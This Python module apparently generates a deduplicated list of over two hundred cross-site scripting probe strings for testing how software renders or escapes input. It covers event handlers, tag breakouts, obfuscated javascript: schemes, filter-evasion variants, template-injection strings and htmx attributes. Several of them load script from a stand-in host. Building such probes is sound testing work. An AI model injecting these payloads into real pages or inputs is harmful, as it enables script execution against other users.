"""Texts that try to become markup or script wherever they are shown. Each carries `MARK`, so that it is found again where it lands."""

from itertools import product

MARK = "xss7331"
CALL = f"alert('{MARK}')"

_EVENTS = [
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "onpointerenter",
    "ontoggle",
    "onanimationstart",
    "onbegin",
    "onend",
    "onscroll",
    "onwheel",
    "oncopy",
    "onpaste",
    "onbeforeinput",
    "oninput",
    "onchange",
    "oncut",
    "ondrag",
    "ondrop",
    "onhashchange",
    "onmessage",
    "onpageshow",
    "onpopstate",
    "onresize",
    "onsubmit",
    "onsearch",
    "ontouchstart",
]
_ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "audio src=x",
    "marquee",
    "select autofocus",
    "textarea autofocus",
)
_BREAKS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "</style>", "]]>", "</noscript>", "</template>", "`>")
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    " javascript:",
    "\x01javascript:",
    "javascript&colon;",
    "&#106;avascript:",
    "vbscript:",
    "data:text/html,",
    "data:text/html;base64,",
    "javascript://%0a",
    "javascript:/*--></title></style></textarea></script>*/",
)


def payloads() -> list[str]:
    """At least two hundred, each different, the shortest first."""
    found = [f"<{element} {event}={CALL}>" for element, event in product(_ELEMENTS[:4], _EVENTS)]
    found += [f"{end}<script>{CALL}</script>" for end in _BREAKS]
    found += [f"{end}<{element} onerror={CALL} onload={CALL}>" for end, element in product(_BREAKS[1:], _ELEMENTS[:3])]
    found += [f"[{MARK}]({scheme}{CALL})" for scheme in _SCHEMES]
    found += [f"<a href='{scheme}{CALL}'>{MARK}</a>" for scheme in _SCHEMES]
    found += [f"{scheme}{CALL}" for scheme in _SCHEMES]
    found += [f'" {event}={CALL} x="' for event in _EVENTS[:10]] + [f"' {event}={CALL} x='" for event in _EVENTS[:10]]
    found += [
        f"<{MARK}>",
        f"<p id={MARK}>",
        f"<b {MARK}>",
        f"<iframe srcdoc='<script>{CALL}</script>'>",
        f"<iframe src=javascript:{CALL}>",
        f"<object data=javascript:{CALL}>",
        f"<embed src=//{MARK}>",
        f"<base href=//{MARK}/>",
        f"<link rel=stylesheet href=//{MARK}>",
        f"<meta http-equiv=refresh content='0;url=//{MARK}'>",
        f"<form action=//{MARK}><button>",
        f"<button formaction=javascript:{CALL}>",
        f"<math><mi xlink:href='javascript:{CALL}'>",
        f"<svg><script>{CALL}</script>",
        f"<svg><animate onbegin={CALL}>",
        f"<svg><use href='//{MARK}#x'>",
        f"<style>@import '//{MARK}';</style>",
        f"<p style=background:url(//{MARK})>",
        f"{{{{{MARK}}}}}",
        f"{{% {MARK} %}}",
        f"${{{CALL}}}",
        f"#{{{CALL}}}",
        f"<%= {MARK} %>",
        f"\\u003cscript\\u003e{CALL}",
        f"&lt;script&gt;{CALL}&lt;/script&gt;",
        f"%3Cscript%3E{CALL}%3C/script%3E",
        f"＜script＞{CALL}＜/script＞",
        f"<scr<script>ipt>{CALL}</scr</script>ipt>",
        f"<ScRiPt/{MARK}>{CALL}</sCrIpT>",
        f"<script\t>{CALL}</script\t>",
        f"<!--<img src=--><img src=x onerror={CALL}>",
        f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
        f"<template><script>{CALL}</script></template>",
        f"<img src=x:{MARK} onerror=import('//{MARK}')>",
        f"\u2028{CALL}\u2029",
        f"</script><!--{MARK}",
        f"<a href=//{MARK}>",
        f"<plaintext {MARK}>",
        f"<xmp><img src=x onerror={CALL}>",
        f"<div hx-get='//{MARK}' hx-trigger=load>",
        f"<div hx-on:load={CALL}>",
        f"<div data-hx-get=/{MARK} data-hx-trigger=load>",
        f"<script type=module>{CALL}</script>",
        f"<script src=//{MARK}></script>",
        f"#{MARK}<b>",
        f"@{MARK}<b>",
        f"//{MARK}",
        f"https://{MARK}.example/<b>",
    ]
    return sorted(dict.fromkeys(found), key=len)
